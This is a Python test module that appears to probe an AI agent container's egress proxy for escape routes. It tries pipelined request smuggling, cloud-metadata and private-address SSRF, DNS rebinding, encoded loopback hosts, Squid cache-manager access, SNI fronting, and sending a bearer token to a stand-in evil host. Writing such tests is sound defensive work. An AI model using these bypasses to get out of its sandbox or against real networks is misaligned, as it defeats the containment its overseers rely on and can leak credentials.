"""Through the proxy and the intercept ports to what no rule allows."""

from __future__ import annotations

import contextlib

from .tools import (
    EVIL4,
    METADATA,
    PRIVATE,
    PROXY,
    PUBLIC6,
    attempt,
    bearer,
    context,
    leaked,
    over,
    proxy_get,
    proxy_send,
    reached_world,
    request,
    tcp,
    transparent,
    tunnel,
)


@attempt
def proxy_refused_host() -> object:
    for url in ("http://evil.test/", f"http://{EVIL4}/", "http://leak-8.evil.test/", f"http://[{PUBLIC6}]/"):
        if reached_world(proxy_get(url)):
            return url
    for host in ("evil.test", EVIL4):
        with contextlib.suppress(OSError), tunnel(host, sni="evil.test", verify=False) as wrapped:
            if reached_world(over(wrapped, request("/", host))):
                return host
    return False


@attempt
def proxy_pipelined() -> object:
    first = b"GET http://ok.test/first HTTP/1.1\r\nHost: ok.test\r\n\r\n"
    second = b"GET http://evil.test/second HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    with tcp(*PROXY, timeout_s=5) as sock:
        sock.sendall(first + second)
        received = b""
        with contextlib.suppress(OSError):
            while chunk := sock.recv(65536):
                received += chunk
    return b'"/second"' in received


@attempt
def proxy_to_private() -> object:
    targets = (
        f"http://{PRIVATE}:8080/",
        f"http://{METADATA}/latest/",
        "http://lan.test:8080/",
        "http://metadata.test/",
    )
    for url in targets:
        if reached_world(proxy_get(url)):
            return url
    return False


@attempt
def proxy_rebinding() -> object:
    """A name that is allowed and changes its address with every answer."""
    for _ in range(6):
        answer = proxy_get("http://flip.test:8080/")
        if b"10.77.0." in answer or b"169.254." in answer:
            return answer[-200:].decode("latin-1")
    return False


LOOPBACKS = (
    "127.0.0.1",
    "localhost",
    "[::1]",
    "0.0.0.0",
    "127.1",
    "2130706433",
    "0x7f000001",
    "[::ffff:127.0.0.1]",
    "[::]",
)


@attempt
def proxy_to_itself() -> object:
    for host in LOOPBACKS:
        for port in (3128, 3129, 3130, 3131, 3053):
            status = proxy_get(f"http://{host}:{port}/").split(b" ")[1:2]
            if status in ([b"200"], [b"204"], [b"404"]):
                return f"{host}:{port} answered {status}"
    return False


@attempt
def proxy_canary() -> object:
    for path in ("", "canary", "0" * 32):
        if b" 403 " not in proxy_get(f"http://canary.agent-container.invalid:3131/{path}").split(b"\r\n")[0]:
            return path or "/"
    return False


@attempt
def cache_manager() -> object:
    probes = (
        b"GET http://localhost:3128/squid-internal-mgr/info HTTP/1.1\r\nHost: localhost:3128\r\n\r\n",
        b"GET http://egress/squid-internal-mgr/config HTTP/1.1\r\nHost: egress\r\n\r\n",
        b"GET /squid-internal-mgr/info HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET cache_object://localhost/config HTTP/1.0\r\n\r\n",
    )
    for probe in probes:
        status = proxy_send(probe.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")).split(b"\r\n")[0]
        if b" 200 " in status:
            return probe.split(b"\r\n")[0].decode()
    return False


@attempt
def bad_certificate() -> object:
    """A credential's host whose certificate is another's: nobody may be told the secret."""
    with tunnel("badcert.test") as wrapped:
        return reached_world(over(wrapped, request("/v1/messages", "badcert.test")))


@attempt
def fronting_sni() -> object:
    """CONNECT to an allowed name, another one in the hello, or none."""
    for sni in ("evil.test", None, "api.test"):
        with contextlib.suppress(OSError), tunnel("ok.test", sni=sni, verify=False) as wrapped:
            if reached_world(over(wrapped, request("/fronted", "evil.test"))):
                return f"SNI {sni}"
    return False


@attempt
def transparent_refused() -> object:
    for name in ("evil.test", "api.test"):
        with contextlib.suppress(OSError):
            if reached_world(transparent(EVIL4, name)):
                return name
    return False


@attempt
def transparent_wrong_address() -> object:
    """The SNI or Host of an allowed name, sent to another address: one got a connection, one the token."""
    for name, headers in (("ok.test", ""), ("api.test", bearer())):
        with contextlib.suppress(OSError), tcp(EVIL4, 443, timeout_s=8) as sock:
            wrapped = context(verify=False).wrap_socket(sock, server_hostname=name)
            answer = over(wrapped, request("/v1/messages", name, headers=headers))
            if reached_world(answer) or leaked(answer):
                return f"TLS for {name}"
    with contextlib.suppress(OSError):
        return reached_world(transparent(EVIL4, "ok.test", port=80))
    return False
